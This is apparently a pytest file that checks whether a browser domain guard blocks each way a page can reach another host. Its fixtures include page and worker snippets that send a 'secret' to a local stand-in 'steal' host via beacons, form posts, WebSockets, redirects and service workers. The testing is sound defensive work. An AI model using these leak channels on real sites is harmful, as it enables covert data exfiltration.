"""allowed_domains against every way a page can make the browser talk to another host: each
redirect kind (HTTP 301/302/303/307/308, a Refresh header, meta refresh, a script's location
change), frames, popups and new tabs, prefetch and preload, beacons, EventSource, form posts,
dedicated/shared/service workers (their fetches and their WebSockets), and a CSP violation
report. The allowed host is 127.0.0.1, the hostile one ``localhost`` on another port; it counts
every request it gets. Each channel also runs without the guard (on a wrapped page), the control
that shows the channel does reach the hostile host."""

from __future__ import annotations

import asyncio
import contextlib

import pytest
from _server import Response

from stagehand_py.browser._guard import DomainGuard

JS = "application/javascript; charset=utf-8"


def _redirect(status: int):
    return lambda req: Response(status, "", headers={"Location": req.query["to"]})


# kind -> (allowed server routes {path: (body, content type, headers)}, page HTML with {steal}/{ws})
def _page(body: str) -> str:
    return f"<!doctype html><title>start</title>{body}"


# The worker channels the guard cannot see (UNSEEN below) tell the page when their attempt is
# over (the fetch settled, the socket closed), and the page then asks the allowed host for
# /settled: the event that shows nothing more can come from that attempt.
SETTLED = "settled.then(() => {report}('settled'));"
WS_SCRIPT = ("const s = new WebSocket('{ws}'); s.onopen = () => s.send('secret');"
             " const settled = new Promise((end) => {{ s.onclose = end; }});")
ON_REPORT = "onmessage = () => fetch('/settled');"

CHANNELS: dict[str, tuple[dict[str, tuple[str, str, dict[str, str]]], str]] = {
    "refresh-header": ({"/hop": ("", "text/html", {"Refresh": "0; url={steal}"})}, _page("<a id=go href='/hop'>go</a>")),
    "meta-refresh": ({}, _page("<meta http-equiv=refresh content='0; url={steal}'>")),
    "script-location": ({}, _page("<script>location.href = '{steal}';</script>")),
    "iframe": ({}, _page("<iframe src='{steal}'></iframe>")),
    "window-open": ({}, _page("<script>window.open('{steal}');</script>")),
    "target-blank": ({}, _page("<a id=go target=_blank href='{steal}'>go</a>")),
    "prefetch": ({}, _page("<link rel=prefetch href='{steal}'>")),
    "preload": ({}, _page("<link rel=preload as=image href='{steal}'>")),
    "beacon": ({}, _page("<script>navigator.sendBeacon('{steal}', 'secret');</script>")),
    "event-source": ({}, _page("<script>new EventSource('{steal}');</script>")),
    "form-post": ({}, _page("<form method=post action='{steal}'><input name=q value=secret></form>"
                            "<script>document.forms[0].submit();</script>")),
    "dedicated-worker": ({"/worker.js": ("fetch('{steal}');", JS, {})}, _page("<script>new Worker('/worker.js');</script>")),
    "dedicated-worker-import": ({"/worker.js": ("importScripts('{steal}');", JS, {})},
                                _page("<script>new Worker('/worker.js');</script>")),
    "shared-worker": ({"/shared.js": ("const settled = fetch('{steal}').catch(() => 0);"
                                      " onconnect = (e) => " + SETTLED.format(report="e.ports[0].postMessage"), JS, {})},
                      _page(f"<script>new SharedWorker('/shared.js').port.{ON_REPORT}</script>")),
    "service-worker": ({"/sw.js": ("self.addEventListener('install', (e) => e.waitUntil(fetch('{steal}').catch(() => 0)));", JS, {})},
                       _page("<script>navigator.serviceWorker.register('/sw.js');</script>")),
    "csp-report": ({"/csp": ("<!doctype html><img src='/nothing.png'>", "text/html",
                             {"Content-Security-Policy": "img-src 'none'; report-uri {steal}"})},
                   _page("<a id=go href='/csp'>go</a>")),
}

WS_CHANNELS: dict[str, tuple[dict[str, tuple[str, str, dict[str, str]]], str]] = {
    "worker-websocket": ({"/ws-worker.js": (WS_SCRIPT + SETTLED.format(report="postMessage"), JS, {})},
                         _page(f"<script>new Worker('/ws-worker.js').{ON_REPORT}</script>")),
    "shared-worker-websocket": ({"/ws-shared.js": (WS_SCRIPT + " onconnect = (e) => " + SETTLED.format(report="e.ports[0].postMessage"),
                                                   JS, {})},
                                _page(f"<script>new SharedWorker('/ws-shared.js').port.{ON_REPORT}</script>")),
    "iframe-websocket": ({"/ws-frame": ("<script>new WebSocket('{ws}');</script>", "text/html", {})},
                         _page("<iframe src='/ws-frame'></iframe>")),
}


async def _open_channel(page, server, routes, html: str, fill: dict[str, str], done, patience: int = 150) -> None:
    """Open the page that uses the channel and wait (``patience`` tenths of a second at most)
    until ``done()``: the guard recorded the block, the hostile host was reached, or (a channel
    the guard cannot see) the page reported the attempt over."""
    with contextlib.ExitStack() as stack:
        for path, (body, ctype, headers) in routes.items():
            resp = Response(200, body.format(**fill), ctype, {k: v.format(**fill) for k, v in headers.items()})
            stack.enter_context(server.route(path, lambda req, resp=resp: resp))
        stack.enter_context(server.route("/start", lambda req: Response.html(html.format(**fill))))
        with contextlib.suppress(Exception):
            await page.goto(server.url("start"))
        with contextlib.suppress(Exception):
            if await page.query_selector("#go"):
                await page.click("#go", timeout=2000)
        for _ in range(patience):
            if done():
                return
            await asyncio.sleep(0.1)


#: Channels that never get out while the guard is installed but that the guard does not see, so
#: it cannot record them: Chromium fails a worker's WebSocket and a shared worker's fetch under
#: request interception (allowed hosts too). For these the guarded case waits until the worker
#: reports its attempt over (the fetch settled, the socket closed: /settled on the allowed host),
#: asserts that report came, and sees that nothing arrived.
UNSEEN = {"shared-worker", "worker-websocket", "shared-worker-websocket"}

CASES = [(kind, guarded, pk) for kind in [*CHANNELS, *WS_CHANNELS] for guarded, pk in
         [(True, "wrapped"), (True, "launched"), (False, "wrapped")]]


@pytest.mark.parametrize(("kind", "guarded", "page_kind"), CASES,
                         ids=[f"{k}-{'guarded' if g else 'control-unguarded'}-{pk}" for k, g, pk in CASES])
async def test_no_channel_reaches_another_host(page, server, cross_server, hostile, hostile_ws, kind: str, guarded: bool) -> None:
    ws_url, handshakes = hostile_ws
    routes, html = CHANNELS.get(kind) or WS_CHANNELS[kind]
    settled: list[str] = []  # the page's reports that a worker's attempt is over (UNSEEN kinds)
    report = lambda req: settled.append(req.path) or Response(204, "", "text/plain")  # noqa: E731
    guard = DomainGuard([f"127.0.0.1:{server.port}"], main_page=page)
    if guarded:
        await guard.install()
    try:
        target = cross_server.origin if kind in CHANNELS else ws_url.rsplit("/", 1)[0]
        blocked = lambda: [b for b in guard.blocked if b.url.startswith(target)]  # noqa: E731
        reached = handshakes if kind in WS_CHANNELS else hostile
        with server.route("/settled", report):
            await _open_channel(page, server, routes, html, {"steal": cross_server.url(f"steal?kind={kind}"), "ws": ws_url},
                                done=lambda: bool(reached or (guarded and (settled if kind in UNSEEN else blocked()))))
        if guarded:  # (a control's hit cannot be undone: nothing to wait for once it came)
            await asyncio.sleep(0.2)  # a leak racing the block or the report would land by now
    finally:
        await guard.uninstall()
        for other in page.context.pages:
            if other is not page:
                await other.close()
    if guarded:
        assert reached == [], f"{kind} reached the other host"
        if kind in UNSEEN:
            assert settled, f"{kind}: the worker never reported its attempt over, so nothing shows it was made"
        else:
            assert blocked(), f"the guard never saw {kind}: {guard.blocked}"
    else:
        assert reached, f"control: {kind} never reached the other host, so the guarded case proves nothing"
